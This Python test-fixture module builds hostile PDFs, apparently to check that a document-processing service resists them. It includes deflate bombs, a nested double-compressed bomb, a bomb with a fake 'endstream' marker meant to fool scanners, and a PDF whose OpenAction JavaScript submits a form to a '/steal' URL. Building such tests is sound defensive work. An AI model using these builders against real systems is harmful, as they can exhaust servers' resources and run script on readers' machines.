"""Hostile PDFs, written byte by byte in the test (nothing is copied from real letters or ../shared).

Every builder returns the bytes of a file; none is kept on disk by the tests.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence

__all__ = [
    "bomb_pdf",
    "build_pdf",
    "deflate_bomb",
    "hidden_end_bomb_pdf",
    "javascript_pdf",
    "lzw_pdf",
    "many_pages_pdf",
    "nested_bomb_pdf",
    "not_a_pdf",
    "text_pdf",
]


def _escape(line: str) -> str:
    return line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def build_pdf(objects: Sequence[bytes]) -> bytes:
    """A PDF 1.4 file of the given object bodies (object 1 must be the catalog), with a correct xref and trailer."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def _stream(data: bytes, extra: str = "") -> bytes:
    return f"<< /Length {len(data)}{extra} >>\nstream\n".encode() + data + b"\nendstream"


def _content(lines: Sequence[str]) -> bytes:
    ops = ["BT", "/F1 9 Tf", "11 TL", "40 760 Td", *(f"({_escape(line)}) Tj T*" for line in lines), "ET"]
    return "\n".join(ops).encode("latin-1", "replace")


def text_pdf(text: str, catalog_extra: str = "", extra_objects: Sequence[bytes] = ()) -> bytes:
    """One page per 50 lines of ``text``; ``catalog_extra`` is spliced into the catalog dictionary."""
    lines = text.splitlines()
    pages = [lines[i : i + 50] for i in range(0, len(lines), 50)] or [[]]
    n = len(pages)
    font = 3 + 2 * n
    first_extra = font + 1
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>".encode(),
        f"<< /Type /Pages /Kids [{' '.join(f'{3 + 2 * i} 0 R' for i in range(n))}] /Count {n} >>".encode(),
    ]
    for i, page in enumerate(pages):
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 {font} 0 R >> >> "
            f"/Contents {4 + 2 * i} 0 R >>".encode()
        )
        objects.append(_stream(_content(page)))
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    assert len(objects) + 1 == first_extra
    objects.extend(extra_objects)
    return build_pdf(objects)


def many_pages_pdf(pages: int, line: str = "Page filler text for a very long document.") -> bytes:
    """``pages`` pages sharing one small content stream (a small file that claims a huge document)."""
    kids = " ".join(f"{4 + i} 0 R" for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        _stream(_content([line] * 40)),
    ]
    font = 4 + pages
    objects += [
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 {font} 0 R >> >> "
        f"/Contents 3 0 R >>".encode()
        for _ in range(pages)
    ]
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return build_pdf(objects)


def deflate_bomb(inflated_bytes: int, unit: bytes = b" " * 1024, head: bytes = b"", tail: bytes = b"") -> bytes:
    """One zlib stream: ``head``, then ``unit`` repeated to ``inflated_bytes``, then ``tail`` (~1,000:1 ratio)."""
    compressor = zlib.compressobj(9)
    chunk = unit * max(1, (1 << 20) // len(unit))
    parts, left = [compressor.compress(head)], inflated_bytes
    while left > 0:
        piece = chunk[: min(left, len(chunk))]
        parts.append(compressor.compress(piece))
        left -= len(piece)
    parts += [compressor.compress(tail), compressor.flush()]
    return b"".join(parts)


def bomb_pdf(inflated_bytes: int, text_ops: bool = False) -> bytes:
    """One page whose FlateDecode content stream inflates to ``inflated_bytes`` (whitespace, or text operators)."""
    head = b"BT /F1 9 Tf 11 TL 40 760 Td (Independent Medical Review Final Determination) Tj T* "
    unit = b"(AAAAAAAAAAAAAAAA) Tj T* " * 40 if text_ops else b" " * 1024
    stream = deflate_bomb(inflated_bytes, unit, head=head, tail=b" ET")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R >>",
        _stream(stream, " /Filter /FlateDecode"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return build_pdf(objects)


def javascript_pdf(text: str) -> bytes:
    """A text PDF that asks to run JavaScript when opened (OpenAction and a document-level Names script)."""
    lines = text.splitlines()
    n = (len(lines) + 49) // 50 or 1
    js_action = 3 + 2 * n + 1  # the first object after the font
    script = "app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');"
    extra = [
        f"<< /Type /Action /S /JavaScript /JS ({_escape(script)}) >>".encode(),
        f"<< /Names [(boot) {js_action} 0 R] >>".encode(),
    ]
    catalog = f"/OpenAction {js_action} 0 R /Names << /JavaScript {js_action + 1} 0 R >> /AA << /WC {js_action} 0 R >>"
    return text_pdf(text, catalog_extra=catalog, extra_objects=extra)


def not_a_pdf(size: int = 50_000, seed: int = 7) -> bytes:
    """Random bytes (a file that claims to be a PDF by its name and media type, and is not)."""
    state = seed
    out = bytearray()
    for _ in range(size):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(state >> 16 & 0xFF)
    return bytes(out)


def nested_bomb_pdf(inflated_bytes: int) -> bytes:
    """A content stream compressed twice (``[/FlateDecode /FlateDecode]``): under 1 KB for 500 MB."""
    outer = zlib.compress(deflate_bomb(inflated_bytes), 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        _stream(outer, " /Filter [/FlateDecode /FlateDecode]"),
    ]
    return build_pdf(objects)


def lzw_pdf() -> bytes:
    """A stream with a filter letters never use (LZW): refused before pdfium expands it."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        _stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01", " /Filter /LZWDecode"),
    ]
    return build_pdf(objects)


def hidden_end_bomb_pdf(inflated_bytes: int) -> bytes:
    """A deflate bomb whose first (stored) block holds the bytes ``endstream``: a scanner that trusts the first
    "endstream" it finds would count 10 bytes instead of ``inflated_bytes``."""
    fake_end = b"endstream\n"
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw deflate blocks, after our own stored block
    chunk = b" " * (1 << 20)
    blocks, left, adler = [], inflated_bytes, zlib.adler32(fake_end)
    while left > 0:
        piece = chunk[: min(left, len(chunk))]
        blocks.append(compressor.compress(piece))
        adler = zlib.adler32(piece, adler)
        left -= len(piece)
    blocks.append(compressor.flush())
    stored = b"\x00" + struct.pack("<HH", len(fake_end), 0xFFFF ^ len(fake_end)) + fake_end
    stream = b"\x78\x01" + stored + b"".join(blocks) + struct.pack(">I", adler)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length 5 0 R /Filter /FlateDecode >>\nstream\n" + stream + b"\nendstream",
        str(len(stream)).encode(),
    ]
    return build_pdf(objects)
